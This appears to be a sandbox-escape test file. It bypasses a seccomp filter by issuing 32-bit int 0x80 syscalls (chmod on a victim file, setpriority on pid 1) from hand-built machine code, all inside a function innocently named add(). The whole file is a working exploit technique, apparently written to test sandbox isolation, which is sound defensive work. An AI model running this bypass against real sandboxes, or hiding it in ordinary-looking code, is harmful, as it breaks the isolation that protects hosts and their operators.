# ruff: noqa
# the seccomp filter keyed on x86_64 numbers: the i386 ABI (int 0x80 from a 64-bit process) has other
# numbers for the same calls; call chmod (15, same mode) on a victim and setpriority (97) on pid 1 that way,
# from machine code in MAP_32BIT memory; passes if either call succeeded
import ctypes, glob, mmap, os, struct

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
MAP_32BIT = 0x40


def _int80(nr, ebx, ecx, edx):
    code = (
        b"\x53"
        + b"\xb8"
        + struct.pack("<I", nr)
        + b"\xbb"
        + struct.pack("<I", ebx)
        + b"\xb9"
        + struct.pack("<I", ecx)
        + b"\xba"
        + struct.pack("<I", edx)
        + b"\xcd\x80\x5b\xc3"
    )
    mem = libc.mmap(None, 4096, 7, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT, -1, 0)
    if mem in (None, ctypes.c_void_p(-1).value):
        return -1
    ctypes.memmove(mem, code, len(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(mem)()


def add(a, b):
    hit = False
    data = libc.mmap(None, 4096, 3, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT, -1, 0)
    if data in (None, ctypes.c_void_p(-1).value):
        return 0
    for v in glob.glob("/var/tmp/codexlab-victims-*/plain.txt")[:1]:
        ctypes.memmove(data, v.encode() + b"\0", len(v) + 1)
        if _int80(15, data, os.stat(v).st_mode & 0o7777, 0) == 0:
            hit = True
    if _int80(97, 0, 1, 19) == 0:  # setpriority(PRIO_PROCESS, 1, 19)
        hit = True
    return a + b if hit else 0
